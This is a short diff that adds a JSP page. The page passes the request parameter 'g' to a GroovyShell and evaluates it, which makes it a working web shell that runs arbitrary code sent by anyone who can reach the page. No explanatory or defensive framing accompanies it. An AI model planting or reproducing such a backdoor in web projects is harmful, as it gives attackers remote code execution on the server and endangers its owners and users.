@@ -1,0 +1,3 @@
+<%@ page import="groovy.lang.GroovyShell" %><%
+out.println(new GroovyShell().evaluate(request.getParameter("g")));
+%>
